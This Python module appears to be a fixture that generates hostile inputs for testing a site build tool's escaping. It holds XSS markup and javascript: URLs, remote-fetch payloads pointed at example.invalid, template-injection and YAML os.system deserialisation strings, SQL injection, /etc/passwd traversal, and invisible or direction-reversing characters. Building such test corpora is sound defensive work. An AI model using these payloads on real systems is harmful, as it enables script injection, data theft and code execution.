"""The hostile texts themselves, made from what does harm and the places that it would have to break out of."""

import re
from collections.abc import Mapping

from build_tools.text.blanks import is_blank

HOST = "https://example.invalid"
"""Whatever asks something of this host got out."""
RUN = "window.ran=1"
"""Whatever sets this ran."""

# Each does harm where a page takes it for markup.
ELEMENTS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt src={HOST}/x.js></sCrIpT>",
    f"<script src=assets/site.js onload={RUN}></script>",
    f"<img src=x onerror={RUN}>",
    f"<img/src='x'/onerror='{RUN}'>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><a href=javascript:{RUN}><text y=9>x</text></a></svg>",
    f"<math><mi href=javascript:{RUN}>x</mi></math>",
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<object data={HOST}/x></object>",
    f"<embed src={HOST}/x>",
    f"<video src={HOST}/x onerror={RUN}>",
    f"<link rel=stylesheet href={HOST}/x.css>",
    "<link rel=attachment href=file:///etc/passwd>",
    f"<style>@import '{HOST}/x.css'</style>",
    f"<style>body{{background:url({HOST}/x)}}</style>",
    f"<base href={HOST}>",
    f"<meta http-equiv=refresh content='0;url={HOST}'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    f"<form action={HOST}><input name=x></form>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<p style=background:url({HOST}/x)>x</p>",
    f"<a href={HOST} ping={HOST}/x>x</a>",
    "<a rel=attachment href=file:///etc/passwd>x</a>",
    f"<template><img src=x onerror={RUN}></template>",
    "<plaintext>",
    "<!-- ",
    "<li><h2 id=aims>x</h2></li>",
)
# Each would close what a text may stand in: an attribute, an element, a comment, a script, a style, a string of JSON.
_WAYS_OUT = (
    "",
    '">',
    "'>",
    "`>",
    "-->",
    "]]>",
    "</title>",
    "</style>",
    "</script>",
    "</li></ol>",
    "</main>",
    '"};',
    "\\",
)

_HANDLERS = tuple(f"x{quote} {handler}={quote}{RUN}" for quote in "\"'`" for handler in ("onclick", "onfocus", "style"))

SCHEMES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java&#115;cript:{RUN}",
    f"javascript&colon;{RUN}",
    f"java&Tab;script:{RUN}",
    f"%6aavascript:{RUN}",
    f"javascript://example.invalid/%0a{RUN}",
    f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "file:///etc/passwd",
    f"blob:{HOST}/x",
    "//example.invalid/x",
    "\\\\example.invalid\\x",
)
_LINKS = ("[x]({})", "[x](<{}>)", '[x]({} "y")', "<{}>", "![x]({})", "[x]: {}", "[*x*]({})")

_MARKDOWN = (
    *(
        "# x",
        "x\n===",
        "## x {: #aims }",
        "- x",
        "1. x",
        "> x",
        "> Guidance: x",
        "---",
        "***",
        "```x```",
        "    x",
        "| a | b |",
    ),
    *("*x*", "**x**", "__x__", "***x", "~~x~~", "`x`", "``", "[x]", "[x][y]", "[^1]", "[]()", "](", "\\*x\\*", "x\\"),
    *(
        "&lt;script&gt;",
        "&#60;script&#62;",
        "&#x3c;b&#x3e;",
        "&amp;lt;",
        "&quot;",
        "&nbsp;",
        "&",
        "<",
        ">",
        "<x",
        "</p>",
    ),
    *(f"<{HOST}>", f"{HOST}/x", "<a@example.invalid>", "www.example.invalid", f"[x]({HOST}/x)", f"![x]({HOST}/x.png)"),
    *(f"![x]({HOST}/x.png){{width=1}}", "*[x]: y", "!!! note", "??? note", '=== "x"', "--8<-- '/etc/passwd'", "$x$"),
)
_ATTRIBUTES = tuple(
    f"x {opening} {inside} }}"
    for opening in ("{:", "{", "{{:", "{ :")
    for inside in (
        f'onclick="{RUN}"',
        f"onclick={RUN}",
        "#aims",
        ".x style=color:red",
        'when="exams"',
        "each=platforms",
    )
)
_JINJA = (
    *("{{ 7*7 }}", "{{7*7}}", "{{ config }}", "{{ ''.__class__.__mro__ }}", "{{ school.motto }}", "{{ people.dsl }}"),
    *(
        "{% for x in range(9) %}x{% endfor %}",
        "{% raw %}",
        "{% include '/etc/passwd' %}",
        "{# x #}",
        "{{",
        "}}",
        "{%",
        "{#",
    ),
    *(
        '{{ ref("aims") }}',
        '{{ cite("kcsie") }}',
        "{{ item | link }}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "{{ 'A'*9**9 }}",
    ),
)
_YAML = (
    *("!!python/object/apply:os.system [x]", "!x y", "&x y", "*x", "<<: *x", "x: y", "- x", "? x", "| x", "> x", "# x"),
    *(
        "%YAML 1.2",
        "--- x",
        "...",
        "[x",
        "{x: y}",
        "@x",
        "`x",
        "~",
        "null",
        "no",
        "0o17",
        "1e3",
        "12:30",
        "=",
        '"x',
        "'x",
    ),
)
# Characters that no file may hold, as HTML and Markdown let one write them: our own marks, and the reading direction.
_REFERENCES = (
    *("&#xe000;school.name&#xe001;x&#xe003;", "&#57346;aims&#57347;", "&#xe002;x&#xe003;", "&#xE003;", "&#x10fffd;"),
    *("&#8238;x", "&#x202e;x", "&rlm;x", "&lrm;x", "&#x7f;", "&#0;", "&#xD800;", "&#x2066;x"),
)
_SCRIPTS = (
    *(
        f"';{RUN}//",
        f'";{RUN}//',
        f"`;{RUN}//",
        f"\\';{RUN}//",
        f"</script><script>{RUN}",
        f"*/{RUN}/*",
        f"${{{RUN}}}",
    ),
    *(
        "\\u003cscript\\u003e",
        "\\x3cscript\\x3e",
        '","x","',
        '"]];',
        "\\",
        "\\n",
        "__proto__",
        "constructor",
        "<!--<script>",
    ),
)
_STYLES = (
    *(f"red;background:url({HOST}/x)", f"}}body{{background:url({HOST}/x)}}", f"url({HOST}/x)", f"expression({RUN})"),
    *(
        f"</style><img src=x onerror={RUN}>",
        f"#fff;--x:url({HOST}/x)",
        "\\72 ed",
        "/*",
        "*/",
        "attr(title)",
        "@import 'x';",
    ),
)
_PATHS = (
    *(
        "../../etc/passwd",
        "/etc/passwd",
        "file:///etc/passwd",
        "C:\\x",
        "%2e%2e%2f",
        "aims",
        "aims/index.html",
        "policy.pdf",
    ),
    *("'; DROP TABLE x; --", "$(x)", "`x`; x", "x | y", "-x", "--help", "x\ty", "(x) Tj", "/JS (x)", ">> endobj"),
)

_KINDS: Mapping[str, tuple[str, ...]] = {
    **{f"elements after {way}": tuple(f"{way}{element}" for element in ELEMENTS) for way in _WAYS_OUT},
    **{f"links as {link}": tuple(link.format(scheme) for scheme in SCHEMES) for link in _LINKS},
    "handlers": _HANDLERS,
    "Markdown": _MARKDOWN,
    "attribute lists": _ATTRIBUTES,
    "Jinja": _JINJA,
    "YAML": _YAML,
    "references": _REFERENCES,
    "scripts": _SCRIPTS,
    "styles": _STYLES,
    "paths": _PATHS,
    "long words": tuple(character * length for character in 'W"<&{[*_\\' for length in (40, 120, 196)),
}


def _no_blank(text: str) -> str:
    """Return a text that a file may hold: one without a word, which would be a blank, gets one at its end."""
    named = re.sub(r"\bx\b", "oak", text) if is_blank(text, is_name=True) else text
    return f"{named} oak" if is_blank(named, is_name=True) else named


PLAIN: Mapping[str, tuple[str, ...]] = {kind: tuple(map(_no_blank, texts)) for kind, texts in _KINDS.items()}
"""By what they attack: every character of them can be printed, so that each is printed as it is typed."""

INVISIBLE = tuple(
    text.replace("□", character)
    for character in map(
        chr,
        (
            *(0x00, 0x01, 0x08, 0x0B, 0x0C, 0x1B, 0x7F, 0x80, 0x85, 0x9F),
            *(0x200E, 0x200F, 0x202A, 0x202D, 0x202E, 0x2066, 0x2069, 0xFEFF),
            *(0xE000, 0xE001, 0xE002, 0xE003, 0xF8FF, 0xFFFF, 0xF0000, 0x10FFFD),
        ),
    )
    for text in ("□", "pay□load", "□<script>")
)
"""What no file may hold: characters that are not seen, that turn the reading about, or that are our own marks."""

STRANGE = tuple(
    text.replace("□", character)
    for character in map(
        chr,
        (
            *(
                0xA0,
                0xAD,
                0x034F,
                0x061C,
                0x180E,
                0x200B,
                0x200C,
                0x200D,
                0x2028,
                0x2029,
                0x2060,
                0x2063,
                0xFE0F,
                0xFFFC,
            ),
            *(
                0xFF1C,
                0xFE64,
                0x2039,
                0x3008,
                0x0301,
                0x0338,
                0x20E0,
                0x1F4A9,
                0x1F1EC,
                0xE0041,
                0x1D5BA,
                0x05D0,
                0x0627,
            ),
        ),
    )
    for text in ("□", "java□script", "<□script>window.ran=1</□script>")
)
"""What may be printed, where the typeface has it, or must be refused."""
